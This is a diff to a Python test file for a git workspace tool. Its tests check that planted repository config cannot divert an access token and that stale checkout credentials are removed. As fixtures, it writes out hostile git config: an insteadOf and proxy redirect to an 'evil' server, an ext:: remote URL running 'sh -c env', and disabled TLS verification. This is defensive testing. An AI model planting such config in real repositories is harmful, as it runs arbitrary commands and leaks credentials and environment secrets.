@@ -19,6 +19,7 @@ from tests.fakes.gitrepo import (
     branches,
     commits,
     file_url,
+    git,
     make_github_remote,
     make_remote,
     push_files,
@@ -624,14 +625,37 @@ def test_token_in_the_url_is_moved_out_of_it(
     assert_no_token_anywhere(ws, caplog)
 
 
-def test_token_is_not_sent_where_config_redirects_the_remote(tmp_path: Path, remote: Path) -> None:
+def test_planted_config_cannot_divert_the_token(tmp_path: Path, remote: Path) -> None:
+    marker = tmp_path / "ext-ran"
     with serve_http(tmp_path, token=TOKEN) as real, serve_http(tmp_path) as evil:
         ws = clone(real.url("remote.git"), tmp_path / "work", token=TOKEN)
-        # What an agent with a shell could do to the checkout's config.
+        # What an agent with a shell could write into the checkout's config.
         ws.git("config", f"url.{evil.url('')}.insteadOf", real.url(""))
+        ws.git("config", "remote.origin.url", f"ext::sh -c env>{marker}")
+        ws.git("config", "protocol.ext.allow", "always")
+        ws.git("config", "http.proxy", evil.url(""))
+        ws.git("config", "http.sslVerify", "false")
+        ws.prepare_branch(BRANCH, base="origin/main")
+        (ws.path / "app.py").write_text("x = 7\n")
+        sha = ws.commit("fix: seven")
+        ws.push(BRANCH)
         ws.fetch()
-    assert evil.authorizations
-    assert set(evil.authorizations) == {""}
+        planted = ws.git("config", "--local", "--list")
+    assert evil.authorizations == []
+    assert not marker.exists()
+    assert branch_sha(remote, BRANCH) == sha
+    assert set(real.authorizations) == {f"basic {BASIC}"}
+    assert "insteadof" not in planted.lower() and "http.proxy" not in planted
+
+
+def test_opening_a_checkout_removes_persisted_credentials(tmp_path: Path, remote: Path) -> None:
+    checkout = tmp_path / "checkout"
+    git(tmp_path, "clone", "--quiet", remote.as_uri(), str(checkout))
+    stale = base64.b64encode(b"x-access-token:ghs_persisted_by_checkout").decode()
+    # What actions/checkout leaves in .git/config with persist-credentials (the default).
+    git(checkout, "config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {stale}")
+    Workspace(checkout, token=TOKEN)
+    assert stale not in (checkout / ".git" / "config").read_text()
 
 
 def test_token_replaces_a_persisted_checkout_header(tmp_path: Path, remote: Path) -> None:
